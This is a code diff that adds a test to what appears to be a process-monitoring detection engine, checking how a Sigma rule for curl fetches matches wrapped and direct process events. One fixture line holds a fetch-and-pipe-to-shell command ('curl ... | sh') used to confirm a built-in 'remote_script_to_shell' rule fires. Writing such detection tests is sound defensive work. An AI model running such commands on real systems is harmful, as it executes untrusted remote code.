@@ -383,6 +383,21 @@ def test_image_on_process_events_is_the_exe(tmp_path):
     assert not fires(rule, action("payload --fast"))  # a bare name is looked up in the bin dirs
 
 
+def test_on_a_process_a_sigma_rule_sees_the_process_not_what_it_runs(tmp_path):
+    curl = one(tmp_path, "sel:\n    Image|endswith: /curl\n    CommandLine|contains: http\ncondition: sel")
+    wrapped = proc(["bash", "-c", "curl -s http://h/x"], exe="/bin/bash")
+    assert not fires(curl, wrapped)  # Sigma's Image is the process's own: bash here, not the curl it starts
+    assert fires(curl, proc(["curl", "-s", "http://h/x"], exe="/usr/bin/curl"))
+    assert fires(curl, action("bash -c 'curl -s http://h/x'"))  # an action is read into its commands
+    engine = Engine(RuleSet(rules=[curl]))
+    assert engine.argv_unread  # every process rule is Sigma's: argv is not read for what it runs
+    from vigiles.analysis.rules import load as builtin
+    mixed = Engine(RuleSet(rules=[*builtin().rules, curl]))
+    assert not mixed.argv_unread
+    found = {f.rule for f in mixed.analyze(proc(["bash", "-c", "curl -s http://198.51.100.2/x | sh"], exe="/bin/bash"))}
+    assert "remote_script_to_shell" in found and curl.id not in found  # the pack still reads what argv runs
+
+
 # -- prefilter ----------------------------------------------------------------------------------------
 def test_needles(tmp_path):
     rule = one(tmp_path, """
